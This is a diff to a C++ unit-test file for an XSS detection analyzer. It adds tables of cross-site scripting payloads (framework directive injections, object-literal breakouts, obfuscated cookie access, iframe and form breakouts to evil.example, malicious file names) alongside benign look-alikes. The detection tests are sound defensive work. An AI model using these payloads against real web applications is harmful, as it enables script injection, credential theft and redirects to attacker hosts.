@@ -55,6 +55,28 @@ constexpr Row kAttacks[] = {
     {"<div style='width:exp/**/ression(alert(1))'>", "balanced"},
     {"<p style=\"background:url('javascript:alert(1)')\">", "balanced"},
     {"<style>b{-moz-binding:url(//evil.example/x.xml#y)}</style>", "balanced"},
+    // Directives of libraries
+    {"\" @click=\"alert(1)", "balanced"},
+    {"\" v-on:click=\"alert(1)", "balanced"},
+    {"' x-init='alert(1)", "balanced"},
+    {"\" hx-on:load=\"alert(1)", "balanced"},
+    {"\" ng-focus=$event.view.alert(1) autofocus x=\"", "balanced"},
+    {"\" :title=\"constructor.constructor('x()')()", "balanced"},
+    {"<p data-bind='text: alert(1)'>", "balanced"},
+    {"<p hx-trigger='load[alert(1)]' hx-get=/>", "balanced"},
+    {"<p data-on-load=alert(1)>", "balanced"},
+    // Behind what closes a value of the page
+    {"\"><form action=//evil.example>", "balanced"},
+    // Script in what the application wrote around the string: objects, lists
+    {"',toString:alert,x:'", "balanced"},
+    {"\",onclick:confirm,\"", "balanced"},
+    {"',...eval(name),'", "balanced"},
+    {"',get x(){alert(1)},y:'", "balanced"},
+    {"',toString(){alert(1)},y:'", "balanced"},
+    {"';for(location of['//evil.example']);'", "balanced"},
+    {"';for(top.location of[name]);//", "balanced"},
+    {"document['coo'+'kie']", "balanced"},
+    {"document[`co${'ok'}ie`]", "balanced"},
     // Script that leaves a string
     {"';alert(1)//", "balanced"},
     {"\"-prompt(1)-\"", "balanced"},
@@ -228,6 +250,18 @@ constexpr Row kBenign[] = {
     {"<div ng-bind=\"user.name\" :class=\"{a: b}\" v-if=\"ok\">x</div>", "-"},
     {"😀 <- that's it -> ok", "-"},
     {"typescript: a language; script: a text", "-"},
+    {"confirm (yes/no)", "-"},
+    {"fetch (dog)", "-"},
+    {"alert (all of them)", "-"},
+    {"The handler is set as `onclick=\"save()\"`; can we move it?", "-"},
+    {"I don't see why onclick=\"save()\" does nothing", "-"},
+    {"My \"save\" button: should onclick=\"save(form)\" be used?", "-"},
+    {"The button has @click=\"save\" and :disabled=\"busy\" in Vue.", "-"},
+    {"he said 'no', then (later) 'yes', and went", "-"},
+    {"Set {'success': done, 'error': fail} and pass 'GET', 'POST', ...rest", "-"},
+    {"{'a': len(x), 'b': 2}", "-"},
+    {"the keys 'x', get y, 'z'", "-"},
+    {"<form action=\"https://lists.example/subscribe\" method=\"post\"><input name=\"mail\"></form>", "-"},
 };
 
 TEST(Xss, AttacksInAQuery) {
@@ -240,8 +274,19 @@ TEST(Xss, WholeValues) {
   for (const Row& row : kWholeValues) EXPECT_EQ(verdict_of(analyzer, row.text), row.verdict) << row.text;
 }
 
+// In a body, where rich text has elements that load.
+TEST(Xss, BreakOutsInABody) {
+  const Analyzer& analyzer = analyzer_named("xss");
+  for (const char* text : {"\"><iframe src=//evil.example>", "'><form action='//evil.example'>",
+                           "--><iframe src=//evil.example>", "</textarea><iframe src=https://evil.example>",
+                           "<script src=\"data:&comma;alert(1)//", "<script src='//evil.example/a.js?"})
+    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, Location::kBody))) << text;
+}
+
 TEST(Xss, BenignTextInABody) {
   const Analyzer& analyzer = analyzer_named("xss");
+  const char* quoted = "> <iframe src=\"//video.example/embed/x\"></iframe> shows nothing here";
+  EXPECT_EQ(verdict_of(analyzer, quoted, Location::kBody), "-");
   for (const Row& row : kBenign)
     EXPECT_EQ(verdict_of(analyzer, row.text, Location::kBody), row.verdict) << row.text;
 }
@@ -268,6 +313,22 @@ TEST(Xss, FileContentIsForStrict) {
   const Analyzer& analyzer = analyzer_named("xss");
   EXPECT_EQ(verdict_of(analyzer, "<script>alert(1)</script>", Location::kFile), "strict");
   EXPECT_EQ(verdict_of(analyzer, "<script>alert(1)</script>", Location::kFile, true), "low");
+}
+
+// Lists of files show names in pages and in scripts.
+TEST(Xss, NamesOfFiles) {
+  const Analyzer& analyzer = analyzer_named("xss");
+  for (const char* text :
+       {"\" onmouseover=alert(1) x=\".png", "x' onfocus=alert(1) autofocus='.png", "'-alert(1)-'.png",
+        "';alert(1)//.png", "${alert(1)}.png", "<img src=x onerror=alert(1)>.png", "javascript:alert(1)",
+        "<p style=x:expression(alert(1))>.png", "{{constructor.constructor('alert(1)')()}}.png"})
+    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, Location::kFile, true))) << text;
+  for (const char* text :
+       {"it's (1).png", "O'Neil & Sons - v2.pdf", "'90s - mix(1).mp3", "Rock 'n' Roll - live(2).mp3",
+        "a's-b(c)-d's.png", "confirm(2).pdf", "print(1).pdf", "window.location.js", "{{template}}.html",
+        "${name}.txt", "[...slug].js", "'Best of' - (2001) - 'Live'.mp3", "don't; really.txt",
+        "jane's=copy(2).xls"})
+    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, Location::kFile, true))) << text;
 }
 
 TEST(Xss, ScriptInAnUploadedImage) {
